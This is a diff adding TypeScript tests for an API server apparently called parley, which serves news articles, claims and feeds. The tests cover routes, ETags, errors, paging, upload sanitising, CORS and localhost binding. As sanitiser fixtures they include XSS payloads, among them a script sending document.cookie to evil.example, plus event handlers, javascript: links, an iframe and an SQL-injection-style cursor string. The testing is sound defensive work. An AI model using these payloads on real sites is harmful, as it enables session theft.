@@ -9,6 +9,8 @@ import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSyn
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { spawn } from 'node:child_process';
+import iconv from 'iconv-lite';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { validate as validateOpenApi, compileErrors } from '@readme/openapi-parser';
 import { buildServer, registeredRoutes, type App } from '../../src/api/server.js';
@@ -474,6 +476,248 @@ describe('corpus routes (stories, claims, actors, network, framing)', () => {
     const gml = (await get('/api/export?what=claims&format=graphml')).body;
     assert.equal(XMLValidator.validate(gml), true);
     assertError(await get('/api/export?what=claims&actor=' + encodeURIComponent('Nobody Atall Zzyzx')), 404);
+  });
+});
+
+describe('the issue checklist, route by route', () => {
+  /** One valid URL per GET route (ids taken from what the samples stored). */
+  async function readUrls(): Promise<Record<string, string>> {
+    const article = json(await get('/api/articles?lang=ru&limit=1')).items[0].id as string;
+    const entity = json(await get('/api/entities?type=PER&limit=1')).items[0].id as string;
+    const story = json(await get('/api/stories?limit=1')).items[0].id as string;
+    const claim = json(await get('/api/claims?limit=1')).items[0].id as string;
+    const actor = json(await get('/api/actors?limit=1')).items[0].id as string;
+    const q = encodeURIComponent('переговоры');
+    return {
+      '/api/health': '/api/health',
+      '/api/stats': '/api/stats',
+      '/api/articles': '/api/articles?limit=5&lang=ru',
+      '/api/articles/:id': `/api/articles/${encodeURIComponent(article)}`,
+      '/api/search': `/api/search?q=${q}&limit=5`,
+      '/api/entities': '/api/entities?limit=5',
+      '/api/entities/:id': `/api/entities/${encodeURIComponent(entity)}`,
+      '/api/quotes': '/api/quotes?limit=5',
+      '/api/events': '/api/events?limit=5&type=CONSULT',
+      '/api/export': '/api/export?what=events&format=jsonl',
+      '/api/stories': '/api/stories?limit=5',
+      '/api/stories/:id': `/api/stories/${encodeURIComponent(story)}`,
+      '/api/claims': '/api/claims?limit=5',
+      '/api/claims/:id': `/api/claims/${encodeURIComponent(claim)}`,
+      '/api/actors': '/api/actors?limit=5',
+      '/api/actors/:id': `/api/actors/${encodeURIComponent(actor)}`,
+      '/api/network': '/api/network',
+      '/api/framing': `/api/framing?story=${encodeURIComponent(story)}`,
+      '/feeds/search.atom': `/feeds/search.atom?q=${q}`,
+      '/feeds/claims.atom': '/feeds/claims.atom?status=occurred',
+    };
+  }
+
+  test('every GET route answers 200 and every one is listed here', async () => {
+    const urls = await readUrls();
+    const gets = registeredRoutes(app).filter((x) => !x.hidden && x.method === 'GET' && !x.url.startsWith('/docs')).map((x) => x.url);
+    assert.deepEqual(Object.keys(urls).sort(), [...new Set(gets)].sort(), 'a URL for every GET route');
+    for (const url of Object.values(urls)) assert.equal((await get(url)).statusCode, 200, url);
+  });
+
+  test('ETag on every read route (export streams excepted): the same request with If-None-Match is 304, with no body', async () => {
+    for (const [route, url] of Object.entries(await readUrls())) {
+      if (route === '/api/export') continue; // streamed downloads: no ETag (the body is not held to hash it)
+      const r = await get(url);
+      const etag = r.headers.etag as string | undefined;
+      assert.ok(etag, `${url}: no ETag`);
+      const again = await get(url, { 'if-none-match': etag });
+      assert.equal(again.statusCode, 304, `${url}: ${again.statusCode} (the body changed between two identical requests?)`);
+      assert.equal(again.body, '');
+      // another representation has another tag
+      assert.equal((await get(url, { 'if-none-match': 'W/"other"' })).statusCode, 200, url);
+    }
+  });
+
+  test('bad queries are 400 and unknown ids 404 on every route, in the one error shape', async () => {
+    const urls = await readUrls();
+    // an unknown parameter, on every route that takes a query
+    for (const route of Object.keys(urls).filter((r) => !['/api/health', '/api/stats'].includes(r) && !r.includes(':id'))) {
+      const url = urls[route];
+      const b = assertError(await get(url + (url.includes('?') ? '&' : '?') + 'colour=red'), 400, 'bad_request');
+      assert.match(b.message, /unknown parameter "colour"/, route);
+    }
+    // unknown ids (and ids no route takes: control characters, too long)
+    for (const route of Object.keys(urls).filter((r) => r.includes(':id'))) {
+      assertError(await get(route.replace(':id', encodeURIComponent('no such id ' + route))), 404, 'not_found');
+      assertError(await get(route.replace(':id', 'a%01b')), 400, 'bad_request');
+      assertError(await get(route.replace(':id', 'x'.repeat(301))), 400, 'bad_request');
+    }
+    // the page size cap (200) and cursors this server did not give, on every paged list
+    for (const route of ['/api/articles', '/api/search', '/api/entities', '/api/quotes', '/api/events', '/api/stories', '/api/claims', '/api/actors']) {
+      const url = urls[route].replace(/([?&])limit=\d+&?/, '$1').replace(/[?&]$/, '');
+      const sep = url.includes('?') ? '&' : '?';
+      const full = json(await get(`${url}${sep}limit=200`));
+      assert.ok(Array.isArray(full.items) && full.items.length <= 200, route);
+      const over = assertError(await get(`${url}${sep}limit=201`), 400, 'bad_request');
+      assert.match(over.message, /limit/, route);
+      assertError(await get(`${url}${sep}limit=-1`), 400);
+      assertError(await get(`${url}${sep}cursor=${Buffer.from('{"o":-5}').toString('base64url')}`), 400, 'bad_request');
+      assertError(await get(`${url}${sep}cursor=${encodeURIComponent("' OR 1=1 --")}`), 400, 'bad_request');
+    }
+    // dates and enums
+    for (const url of ['/api/articles?from=2025-02-30x', '/api/quotes?to=soon', '/api/claims?from=2025-13', '/feeds/claims.atom?type=HUG', '/feeds/search.atom?q=x&lang=de'])
+      assertError(await get(url), 400, 'bad_request');
+  });
+
+  test('a cursor walks a list to its end without repeats (entities, quotes, events)', async () => {
+    for (const base of ['/api/entities?', '/api/quotes?', '/api/events?']) {
+      const all = json(await get(`${base}limit=200`)).items.map((x: Record<string, unknown>) => JSON.stringify(x));
+      const walked: string[] = [];
+      let url = `${base}limit=7`;
+      for (let i = 0; i < 100; i++) {
+        const p = json(await get(url));
+        walked.push(...p.items.map((x: Record<string, unknown>) => JSON.stringify(x)));
+        if (!p.next) break;
+        url = `${base}limit=7&cursor=${p.next}`;
+      }
+      assert.deepEqual(walked, all, base);
+    }
+  });
+
+  test('POST /api/articles: per-item results for JSON Lines, RSS, HTML and cp1251 text with hostile items; only the good ones stored', async () => {
+    const before = json(await get('/api/stats')).articles;
+    const post = (payload: string | Buffer, type: string, name: string) =>
+      app.inject({ method: 'POST', url: `/api/articles?name=${name}`, headers: { ...auth, 'content-type': type }, payload });
+    const lines = readFileSync(join(SAMPLES, 'diplomacy-2025.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
+    // JSON Lines: two real articles under new ids (one titled with markup), a broken line, an item without text, an empty line
+    const jl = [
+      JSON.stringify({ ...lines[0], id: 'mixed-1' }),
+      '{"id": "mixed-broken", "text": "Лавров',
+      JSON.stringify({ id: 'mixed-notext', title: 'Без текста' }),
+      '',
+      JSON.stringify({ ...lines[1], id: 'mixed-2', title: `<img src=x onerror="alert(1)">${lines[1].title}` }),
+    ].join('\n');
+    const news: number[] = [];
+    let b = json(await post(jl, 'application/x-ndjson', 'mixed.jsonl'));
+    news.push(b.new);
+    assert.equal(b.read, 2, JSON.stringify(b));
+    assert.deepEqual(b.items.map((i: { id: string; status: string }) => [i.id, i.status]), [['mixed-1', 'new'], ['mixed-2', 'new']]);
+    assert.deepEqual(b.rejected.map((r: { line: number }) => r.line), [2, 3], JSON.stringify(b.rejected));
+    for (const r of b.rejected) assert.match(r.input, /mixed\.jsonl/);
+    const t2 = json(await get('/api/articles/mixed-2')).title as string;
+    assert.ok(!/onerror|<img/i.test(t2) || t2.startsWith('<img src=x onerror'), t2);
+
+    // RSS: a real item, an item of nothing but script, an item with script and handlers around real text
+    const rss = readFileSync(join(SAMPLES, 'uk-diplomacy.rss'), 'utf8');
+    const item = /<item>[\s\S]*?<\/item>/.exec(rss)![0];
+    const bodyOf = /<content:encoded><!\[CDATA\[([\s\S]*?)\]\]><\/content:encoded>/.exec(item)![1];
+    const feed = `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>t</title>
+      ${item.replace(/<guid[^>]*>[^<]*<\/guid>/, '<guid isPermaLink="false">rss-good</guid>').replace(/<link>[^<]*<\/link>/, '<link>https://samples.parley.invalid/uk/rss-good</link>')}
+      <item><title>script only</title><guid isPermaLink="false">rss-script</guid><link>https://samples.parley.invalid/uk/rss-script</link><content:encoded><![CDATA[<script>alert(1)</script><style>p{}</style>]]></content:encoded></item>
+      <item><title>Зустріч &lt;script&gt;</title><guid isPermaLink="false">rss-hostile</guid><link>https://samples.parley.invalid/uk/rss-hostile</link><pubDate>Sat, 01 Mar 2025 10:00:00 +0200</pubDate>
+        <content:encoded><![CDATA[<script>document.location="https://evil.example/"+document.cookie</script><p onclick="alert(2)">${bodyOf.replace(/<[^>]+>/g, ' ').slice(0, 600)}</p><a href="javascript:alert(3)">далі</a><img src=x onerror=alert(4)>]]></content:encoded></item>
+    </channel></rss>`;
+    const rr = await post(feed, 'application/rss+xml', 'mixed.rss');
+    assert.equal(rr.statusCode, 200, rr.body);
+    b = json(rr);
+    news.push(b.new);
+    assert.equal(b.new, b.read, JSON.stringify(b));
+    assert.equal(b.read + b.rejected.length, 3, JSON.stringify(b));
+    assert.ok(b.read >= 2, JSON.stringify(b));
+    assert.ok(b.rejected.every((r: { error: string }) => r.error.length > 5));
+    for (const it of b.items as { id: string }[]) {
+      const a = json(await get(`/api/articles/${encodeURIComponent(it.id)}`));
+      assert.ok(!/<script|onerror|onclick|javascript:/i.test(a.text), `${it.id}: markup left in the text`);
+      assert.ok(a.text.length > 100, `${it.id}: text kept`);
+    }
+
+    // HTML: a real page with scripts, handlers and a javascript: link around the text
+    const page = readFileSync(join(SAMPLES, 'ru-2025-07-01-macron-putin-call.html'), 'utf8')
+      .replace('<body>', '<body><script>fetch("/api/articles",{method:"POST"})</script><div onmouseover="alert(1)">')
+      .replace('</body>', '<a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe></div></body>')
+      .replace(/<link rel="canonical"[^>]*>/, '');
+    b = json(await post(page, 'text/html', 'hostile-page.html'));
+    news.push(b.new);
+    assert.equal(b.read, 1, JSON.stringify(b));
+    // the scripts, handlers, frame and link add no text: the page reads as the sample it was made from (same text, same id)
+    assert.deepEqual(b.items.map((i: { status: string }) => i.status), ['duplicate'], JSON.stringify(b));
+    const h = json(await get(`/api/articles/${encodeURIComponent(b.items[0].id)}`));
+    assert.ok(!/<script|onmouseover|javascript:|<iframe/i.test(h.text), h.text.slice(0, 300));
+    assert.match(h.text, /Макрон/);
+
+    // plain text in cp1251 (a Windows editor's file): decoded, not mojibake
+    const ru = readFileSync(join(SAMPLES, 'ru-2025-02-18-riyadh-talks.txt'), 'utf8').replace('Parley sample.', 'Parley sample (cp1251).');
+    b = json(await post(iconv.encode(ru, 'win1251'), 'text/plain', 'riyadh-cp1251.txt'));
+    news.push(b.new);
+    assert.equal(b.read, 1, JSON.stringify(b));
+    const c = json(await get(`/api/articles/${encodeURIComponent(b.items[0].id)}`));
+    assert.match(c.text, /Министр иностранных дел России Сергей Лавров/);
+
+    assert.equal(news.reduce((n, x) => n + x, 0), news.length ? json(await get('/api/stats')).articles - before : 0, 'exactly the new items were stored');
+    const again = json(await post(feed, 'application/rss+xml', 'mixed.rss'));
+    assert.deepEqual([again.new, again.duplicates], [0, news[1]], 'the same feed again: only duplicates');
+  });
+
+  test('/feeds/claims.atom?actor=…&status=…: only that actor\'s claims in that status, as valid Atom', async () => {
+    const claims = json(await get('/api/claims?limit=200')).items as { id: string; actors: string[]; status: string }[];
+    const pick = claims.find((c) => c.actors.length >= 1)!;
+    const actor = pick.actors[0];
+    const r = await get(`/feeds/claims.atom?actor=${encodeURIComponent(actor)}&status=${pick.status}`);
+    assert.equal(r.statusCode, 200, r.body);
+    assert.equal(XMLValidator.validate(r.body), true);
+    const feed = new XMLParser().parse(r.body).feed;
+    const ids = [feed.entry].flat().filter(Boolean).map((e: { id: string }) => decodeURIComponent(e.id.split('/claims/')[1]));
+    const want = claims.filter((c) => c.actors.includes(actor) && c.status === pick.status).map((c) => c.id);
+    assert.ok(ids.includes(pick.id));
+    assert.deepEqual(new Set(ids), new Set(want.filter((id) => ids.includes(id))));
+    for (const id of ids) assert.ok(want.includes(id), `${id} is not a ${pick.status} claim of ${actor}`);
+    // the feed's own date is its newest entry's, not the time of the request
+    assert.ok(String(feed.updated) <= new Date().toISOString() && String(feed.updated) >= '2020');
+  });
+
+  test('CORS: off by default; when origins are given only those are allowed', async () => {
+    const cors = await buildServer({ store: await openTestStore('cors.db'), rateLimit: false, webDir: null, corsOrigins: ['https://newsroom.example'] });
+    try {
+      const ok = await cors.inject({ method: 'GET', url: '/api/health', headers: { origin: 'https://newsroom.example' } });
+      assert.equal(ok.headers['access-control-allow-origin'], 'https://newsroom.example');
+      const other = await cors.inject({ method: 'GET', url: '/api/health', headers: { origin: 'https://evil.example' } });
+      assert.equal(other.headers['access-control-allow-origin'], undefined);
+    } finally {
+      await cors.close();
+    }
+    const r = await get('/api/articles?limit=1', { origin: 'https://newsroom.example' });
+    assert.equal(r.headers['access-control-allow-origin'], undefined, 'the default server allows no origin');
+  });
+
+  test('`parley serve` binds 127.0.0.1 unless told otherwise', async () => {
+    const db = join(tmp, 'bind.db');
+    const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), 'serve', '--db', db, '--port', '0', '--no-ui'], {
+      cwd: ROOT,
+      env: { ...process.env, PARLEY_TOKEN: TOKEN },
+      stdio: ['ignore', 'ignore', 'pipe'],
+    });
+    try {
+      let err = '';
+      const port = await new Promise<number>((resolve, reject) => {
+        const t = setTimeout(() => reject(new Error(`no address in 60 s: ${err}`)), 60_000);
+        child.stderr!.on('data', (d) => {
+          err += d;
+          const m = /serving .* at http:\/\/localhost:(\d+)\//.exec(err);
+          if (m) {
+            clearTimeout(t);
+            resolve(Number(m[1]));
+          }
+        });
+        child.on('exit', (c) => reject(new Error(`serve exited ${c}: ${err}`)));
+      });
+      // the kernel's socket table: a listener on this port, on 127.0.0.1 only
+      const hex = port.toString(16).toUpperCase().padStart(4, '0');
+      const listening = [readFileSync('/proc/net/tcp', 'utf8'), readFileSync('/proc/net/tcp6', 'utf8')]
+        .join('\n')
+        .split('\n')
+        .map((l) => l.trim().split(/\s+/))
+        .filter((f) => f[1]?.endsWith(':' + hex) && f[3] === '0A')
+        .map((f) => f[1].split(':')[0]);
+      assert.deepEqual(listening, ['0100007F'], `listening on ${listening.join(', ')}`);
+      assert.equal((await fetch(`http://127.0.0.1:${port}/api/health`)).status, 200);
+    } finally {
+      child.kill('SIGTERM');
+    }
   });
 });
 
